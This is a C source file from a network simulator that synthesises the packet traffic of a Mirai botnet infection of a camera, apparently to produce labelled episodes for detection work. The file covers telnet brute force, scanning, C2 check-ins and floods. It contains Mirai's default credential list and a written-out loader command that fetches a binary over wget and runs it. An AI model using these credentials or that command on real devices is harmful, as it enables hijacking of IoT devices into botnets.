/* attack_mirai.c - a Mirai infection of the camera, in four episodes:
 * telnet brute force from an Internet bot (default credentials in clear,
 * the last one works, then the loader's wget), the camera scanning random
 * addresses on TCP 23/2323 (SYN sequence number = target address, as the
 * Mirai source does), periodic check-ins with its C2, and a UDP then SYN
 * flood against one victim. */
#include "sim/sim_internal.h"

#include <stdio.h>
#include <string.h>

#define MS 1000ull
#define SEC 1000000ull
#define ATTACKER_IP 0x2d940a51u	/* 45.148.10.81 */
#define C2_IP       0x5b5cf20eu	/* 91.92.242.14 (C2 and loader) */
#define VICTIM_IP   0x33268c0cu	/* 51.38.140.12 */

/* Default credentials from the public Mirai source (scanner.c). */
static const char *const creds[][2] = {
	{ "root", "xc3511" }, { "root", "vizxv" }, { "root", "admin" },
	{ "admin", "admin" }, { "root", "888888" }, { "root", "xmhdipc" },
	{ "root", "default" }, { "root", "juantech" }, { "root", "123456" },
	{ "root", "54321" }, { "support", "support" }, { "root", "" },
	{ "admin", "password" }, { "root", "root" }, { "root", "12345" },
	{ "user", "user" }, { "admin", "" }, { "root", "pass" },
	{ "admin", "admin1234" }, { "root", "1111" }, { "admin", "smcadmin" },
	{ "admin", "1111" }, { "root", "666666" }, { "root", "password" },
	{ "root", "1234" }, { "root", "klv123" }, { "Administrator", "admin" },
	{ "service", "service" }, { "supervisor", "supervisor" },
	{ "guest", "guest" }, { "guest", "12345" }, { "admin1", "password" },
	{ "administrator", "1234" }, { "666666", "666666" },
	{ "888888", "888888" }, { "ubnt", "ubnt" }, { "root", "klv1234" },
	{ "root", "Zte521" }, { "root", "hi3518" }, { "root", "jvbzd" },
	{ "root", "anko" }, { "root", "zlxx." }, { "root", "7ujMko0vizxv" },
	{ "root", "7ujMko0admin" }, { "root", "system" }, { "root", "ikwb" },
	{ "root", "dreambox" }, { "root", "user" }, { "root", "realtek" },
	{ "root", "00000000" }, { "admin", "1234" }, { "admin", "12345" },
};
#define NCREDS (sizeof(creds) / sizeof(creds[0]))

enum { PH_BRUTE, PH_SCAN, PH_C2, PH_UDP, PH_SYN };

struct mirai {
	struct sim_device *cam;
	struct sim_host bot, c2, victim;
	struct sim_domain cnc;
	unsigned attempt, nattempts, beacons;
	uint64_t scan_end, flood_at, flood_end;
	uint16_t scan_sport;
	uint16_t ep[5];
};

static uint64_t send_str(struct sim_ctx *c, struct sim_tcp *s, int side,
    uint64_t t, const char *str)
{
	return sim_tcp_send(c, s, side, t, (const uint8_t *)str, strlen(str),
	    0);
}

/* One telnet login attempt; returns 1 on the successful one. */
static uint64_t telnet_try(struct sim_ctx *c, struct mirai *m, uint64_t t,
    const char *user, const char *pass, int ok)
{
	static const uint8_t neg_s[] = { 0xff, 0xfd, 0x01, 0xff, 0xfd, 0x1f,
		0xff, 0xfb, 0x01, 0xff, 0xfb, 0x03 };
	static const uint8_t neg_c[] = { 0xff, 0xfc, 0x01, 0xff, 0xfc, 0x1f,
		0xff, 0xfe, 0x01, 0xff, 0xfe, 0x03 };
	struct sim_tcp s;
	char line[64];

	sim_tcp_init(&s, c, &m->bot, (uint16_t)sim_rng_range(&c->rng, 32768,
	    60999), &m->cam->h, 23, 0);
	t = sim_tcp_connect(c, &s, t);
	t = sim_tcp_send(c, &s, 1, t + 2 * MS, neg_s, sizeof(neg_s), 0);
	t = sim_tcp_send(c, &s, 0, t + MS, neg_c, sizeof(neg_c), 0);
	t = send_str(c, &s, 1, t + 5 * MS, "\r\nlogin: ");
	snprintf(line, sizeof(line), "%s\r\n", user);
	t = send_str(c, &s, 0, t + 20 * MS, line);
	t = send_str(c, &s, 1, t + 3 * MS, "Password: ");
	snprintf(line, sizeof(line), "%s\r\n", pass);
	t = send_str(c, &s, 0, t + 20 * MS, line);
	if (!ok) {
		t = send_str(c, &s, 1, t + 400 * MS,
		    "\r\nLogin incorrect\r\nlogin: ");
		return sim_tcp_close(c, &s, 0, t + 30 * MS);
	}
	t = send_str(c, &s, 1, t + 200 * MS, "\r\n\r\nBusyBox v1.22.1 "
	    "(2019-08-01 10:22:15 CST) built-in shell (ash)\r\n\r\n# ");
	t = send_str(c, &s, 0, t + 30 * MS, "enable\r\n");
	t = send_str(c, &s, 1, t + 5 * MS, "-sh: enable: not found\r\n# ");
	t = send_str(c, &s, 0, t + 30 * MS, "shell\r\n");
	t = send_str(c, &s, 1, t + 5 * MS, "-sh: shell: not found\r\n# ");
	t = send_str(c, &s, 0, t + 30 * MS, "sh\r\n");
	t = send_str(c, &s, 1, t + 5 * MS, "# ");
	t = send_str(c, &s, 0, t + 30 * MS, "/bin/busybox MIRAI\r\n");
	t = send_str(c, &s, 1, t + 5 * MS, "MIRAI: applet not found\r\n# ");
	t = send_str(c, &s, 0, t + 30 * MS, "cd /tmp; /bin/busybox wget "
	    "http://91.92.242.14/bins/mirai.arm7 -O .m; chmod 777 .m; "
	    "./.m telnet.arm7\r\n");
	return sim_tcp_close(c, &s, 0, t + 2 * SEC);
}

/* The infected camera fetches the bot binary from the loader. */
static uint64_t wget_bot(struct sim_ctx *c, struct mirai *m, uint64_t t)
{
	struct sim_tcp s;
	uint8_t hdr[512];
	size_t n;
	unsigned size;
	int len;

	sim_tcp_init(&s, c, &m->cam->h, sim_device_port(c, m->cam), &m->c2,
	    80, 0);
	t = sim_tcp_connect(c, &s, t);
	n = sim_http_request(hdr, sizeof(hdr), "GET", "91.92.242.14",
	    "/bins/mirai.arm7", "Wget", NULL);
	t = sim_tcp_send(c, &s, 0, t + MS, hdr, n, 0);
	size = 58000u + sim_rng_below(&c->rng, 9000);
	len = snprintf((char *)hdr, sizeof(hdr), "HTTP/1.1 200 OK\r\n"
	    "Server: nginx/1.18.0\r\nContent-Type: application/octet-stream\r\n"
	    "Content-Length: %u\r\n\r\n\x7f" "ELF\x01\x01\x01", size);
	t = sim_tcp_send(c, &s, 1, t + 5 * MS, hdr, len > 0 ? (size_t)len : 0,
	    0);
	t = sim_tcp_send(c, &s, 1, t, NULL, size - 7u, 0);
	return sim_tcp_close(c, &s, 1, t + MS);
}

static void ev_mirai(struct sim_ctx *c, void *obj, uint32_t phase,
    uint64_t now);

static void phase_brute(struct sim_ctx *c, struct mirai *m, uint64_t now)
{
	int ok = m->attempt + 1 == m->nattempts;
	const char *const *cr = creds[ok ? 0 : 1 + sim_rng_below(&c->rng,
	    NCREDS - 1)];
	uint64_t t;

	c->cur_ep = m->ep[PH_BRUTE];
	t = telnet_try(c, m, now, cr[0], cr[1], ok);
	c->cur_ep = 0;
	if (!ok) {
		m->attempt++;
		sim_sched(c, t + sim_rng_range(&c->rng, 300 * MS, 3 * SEC),
		    ev_mirai, m, PH_BRUTE);
		return;
	}
	c->cur_ep = m->ep[PH_C2];
	t = wget_bot(c, m, t + 500 * MS);
	c->cur_ep = 0;
	m->scan_end = t + (uint64_t)(900.0 * sim_attack_scale(c) * 1e6);
	sim_sched(c, t + 5 * SEC, ev_mirai, m, PH_C2);
	sim_sched(c, t + 10 * SEC, ev_mirai, m, PH_SCAN);
	if (m->flood_at < m->scan_end)
		m->flood_at = m->scan_end + 60 * SEC;
	sim_sched(c, m->flood_at, ev_mirai, m, PH_UDP);
}

/* Raw frames from the bot's own packet builder (not the kernel's TCP). */
static void raw_tcp(struct sim_ctx *c, struct sim_host *src,
    const struct sim_host *dst, uint16_t sport, uint16_t dport, uint32_t seq,
    uint64_t t)
{
	struct sim_l3 l;
	struct sim_tcph th;
	uint8_t *f = sim_out_begin(c);

	sim_l3_from(&l, src, dst);
	l.id = (uint16_t)sim_rng_next(&c->rng);
	l.df = 0;
	memset(&th, 0, sizeof(th));
	th.sport = sport;
	th.dport = dport;
	th.seq = seq;
	th.flags = SIM_TH_SYN;
	th.win = (uint16_t)sim_rng_next(&c->rng);
	sim_out_commit(c, t, sim_build_tcp4(f, SIM_FRAME_MAX, &l, &th, NULL,
	    0));
}

static void phase_scan(struct sim_ctx *c, struct mirai *m, uint64_t now)
{
	uint64_t t = now;
	unsigned i;

	c->cur_ep = m->ep[PH_SCAN];
	for (i = 0; i < 4; i++) {
		struct sim_host tgt;
		uint32_t ip = sim_public_ip(c);
		uint16_t port = sim_rng_below(&c->rng, 10) ? 23 : 2323;
		uint32_t r = sim_rng_below(&c->rng, 1000);

		sim_remote_host(c, &tgt, ip);
		raw_tcp(c, &m->cam->h, &tgt, m->scan_sport, port, ip, t);
		if (r < 20) {	/* closed port: RST from the target */
			struct sim_tcp s;

			sim_tcp_init(&s, c, &m->cam->h, m->scan_sport, &tgt,
			    port, 0);
			s.seq[0] = ip + 1;
			s.seq[1] = 0;
			sim_tcp_segment(c, &s, 1, t + s.delay[1],
			    SIM_TH_RST | SIM_TH_ACK, NULL, 0);
		} else if (r < 25) {	/* no route: ICMP from a router */
			uint8_t inner[28], *f = sim_out_begin(c);
			struct sim_l3 l;
			struct sim_host rtr;

			sim_remote_host(c, &rtr, (ip & 0xffffff00u) | 1u);
			sim_l3_from(&l, &rtr, &m->cam->h);
			memset(inner, 0, sizeof(inner));
			inner[0] = 0x45;
			sim_put16(inner + 2, 40);
			inner[8] = (uint8_t)(64 - 9);
			inner[9] = 6;
			sim_put32(inner + 12, m->cam->h.ip);
			sim_put32(inner + 16, ip);
			sim_put16(inner + 10, sim_csum_fold(sim_csum_add(0, inner,
			    20)));
			sim_put16(inner + 20, m->scan_sport);
			sim_put16(inner + 22, port);
			sim_put32(inner + 24, ip);
			sim_out_commit(c, t + sim_wan_rtt(ip), sim_build_icmp4(f,
			    SIM_FRAME_MAX, &l, 3, 1, 0, inner, sizeof(inner)));
		}
		t += sim_rng_range(&c->rng, 2 * MS, 45 * MS);
	}
	c->cur_ep = 0;
	if (now < m->scan_end)
		sim_sched(c, now + 100 * MS, ev_mirai, m, PH_SCAN);
}

/* A short connection to the C2 every ~60 s: hello, heartbeat, close. */
static void phase_c2(struct sim_ctx *c, struct mirai *m, uint64_t now)
{
	static const uint8_t hello[] = { 0, 0, 0, 1, 0 };
	static const uint8_t beat[] = { 0, 0 };
	struct sim_host dns;
	struct sim_tcp s;
	uint64_t t = now;

	c->cur_ep = m->ep[PH_C2];
	if (m->beacons++ % 10 == 0) {	/* Mirai asks 8.8.8.8 directly */
		uint8_t pl[256];
		struct sim_dns_q q = { m->cnc.name, SIM_DNS_A, SIM_DNS_IN };
		struct sim_dns_rr a;
		uint16_t id = (uint16_t)sim_rng_next(&c->rng);
		uint16_t sp = sim_device_port(c, m->cam);
		size_t n;

		memset(&a, 0, sizeof(a));
		a.name = m->cnc.name;
		a.type = SIM_DNS_A;
		a.cls = SIM_DNS_IN;
		a.ttl = 300;
		a.a = C2_IP;
		sim_remote_host(c, &dns, 0x08080808u);
		n = sim_dns_build(pl, sizeof(pl), id, 0x0100, &q, 1, NULL, 0,
		    NULL, 0);
		sim_send_udp(c, t, &m->cam->h, &dns, sp, 53, pl, n);
		t += sim_wan_rtt(dns.ip);
		n = sim_dns_build(pl, sizeof(pl), id, 0x8180, &q, 1, &a, 1,
		    NULL, 0);
		sim_send_udp(c, t, &dns, &m->cam->h, 53, sp, pl, n);
		t += MS;
	}
	sim_tcp_init(&s, c, &m->cam->h, sim_device_port(c, m->cam), &m->c2, 23,
	    0);
	t = sim_tcp_connect(c, &s, t);
	t = sim_tcp_send(c, &s, 0, t + MS, hello, sizeof(hello), 0);
	t = sim_tcp_send(c, &s, 0, t + 50 * MS, beat, sizeof(beat), 0);
	t = sim_tcp_send(c, &s, 1, t + MS, beat, sizeof(beat), 0);
	sim_tcp_close(c, &s, 1, t + 2 * SEC);
	c->cur_ep = 0;
	sim_sched(c, now + sim_rng_jitter_us(&c->rng, 60.0, 0.03), ev_mirai, m,
	    PH_C2);
}

static void phase_flood(struct sim_ctx *c, struct mirai *m, uint32_t ph,
    uint64_t now)
{
	uint64_t t = now;
	unsigned i;

	if (m->flood_end == 0) {
		double secs = (ph == PH_UDP ? 30.0 : 20.0) * sim_attack_scale(c);

		m->flood_end = now + (uint64_t)((secs < 5.0 ? 5.0 : secs) * 1e6);
	}
	c->cur_ep = m->ep[ph];
	for (i = 0; i < 150; i++) {	/* ~1500 packets per second */
		if (ph == PH_UDP) {
			uint8_t pl[512];

			sim_rng_bytes(&c->rng, pl, sizeof(pl));
			/* Version bits 0 keep Wireshark's RTP/RTCP heuristics
			 * off the random payload. A game server's port as
			 * target, sources from the high ephemeral range. */
			pl[0] &= 0x3f;
			sim_send_udp(c, t, &m->cam->h, &m->victim,
			    (uint16_t)sim_rng_range(&c->rng, 49152, 65535),
			    27015, pl, sizeof(pl));
		} else {
			uint16_t sport = (uint16_t)sim_rng_range(&c->rng, 1024,
			    65535);
			uint32_t seq = (uint32_t)sim_rng_next(&c->rng);

			raw_tcp(c, &m->cam->h, &m->victim, sport, 80, seq, t);
		}
		t += sim_rng_range(&c->rng, 300, 1000);
	}
	c->cur_ep = 0;
	if (t < m->flood_end) {
		sim_sched(c, now + 100 * MS, ev_mirai, m, ph);
	} else if (ph == PH_UDP) {
		m->flood_end = 0;
		sim_sched(c, t + 10 * SEC, ev_mirai, m, PH_SYN);
	}
}

static void ev_mirai(struct sim_ctx *c, void *obj, uint32_t phase,
    uint64_t now)
{
	struct mirai *m = obj;

	if (!m->cam->ready || m->cam->ready > now) {
		sim_sched(c, now + 5 * SEC, ev_mirai, m, phase);
		return;
	}
	switch (phase) {
	case PH_BRUTE:
		phase_brute(c, m, now);
		break;
	case PH_SCAN:
		phase_scan(c, m, now);
		break;
	case PH_C2:
		phase_c2(c, m, now);
		break;
	default:
		phase_flood(c, m, phase, now);
		break;
	}
}

uint32_t sim_public_ip(struct sim_ctx *c)
{
	for (;;) {
		uint32_t ip = (uint32_t)sim_rng_next(&c->rng);
		uint32_t a = ip >> 24, b = (ip >> 16) & 0xff;

		if (a == 0 || a == 10 || a == 127 || a >= 224 ||
		    (a == 100 && b >= 64 && b < 128) || (a == 169 && b == 254) ||
		    (a == 172 && b >= 16 && b < 32) || (a == 192 && b == 168) ||
		    (a == 198 && (b == 18 || b == 19)))
			continue;
		return ip;
	}
}

int sim_mirai_setup(struct sim_ctx *c, uint64_t start)
{
	struct mirai *m = sim_ctx_alloc(c, sizeof(*m));

	if (!m)
		return -1;
	m->cam = sim_device_of_kind(c, SIM_K_CAMERA);
	sim_remote_host(c, &m->bot, ATTACKER_IP);
	sim_remote_host(c, &m->c2, C2_IP);
	sim_remote_host(c, &m->victim, VICTIM_IP);
	m->cnc.name = "cnc.nrfbot.xyz";
	m->nattempts = sim_rng_range(&c->rng, 12, 24);
	m->scan_sport = (uint16_t)sim_rng_range(&c->rng, 1024, 65535);
	m->flood_at = sim_attack_at(c, 0.60);
	m->ep[PH_BRUTE] = sim_episode_new(c, "mirai-bruteforce", "brute-force",
	    &m->bot, m->cam->h.ip, 23);
	m->ep[PH_SCAN] = sim_episode_new(c, "mirai-scan", "scan", &m->cam->h,
	    0, 0);
	m->ep[PH_C2] = sim_episode_new(c, "mirai-c2", "c2-beacon", &m->cam->h,
	    C2_IP, 23);
	m->ep[PH_UDP] = sim_episode_new(c, "mirai-udp-flood", "flood",
	    &m->cam->h, VICTIM_IP, 0);
	m->ep[PH_SYN] = sim_episode_new(c, "mirai-syn-flood", "flood",
	    &m->cam->h, VICTIM_IP, 80);
	sim_sched(c, start, ev_mirai, m, PH_BRUTE);
	return 0;
}
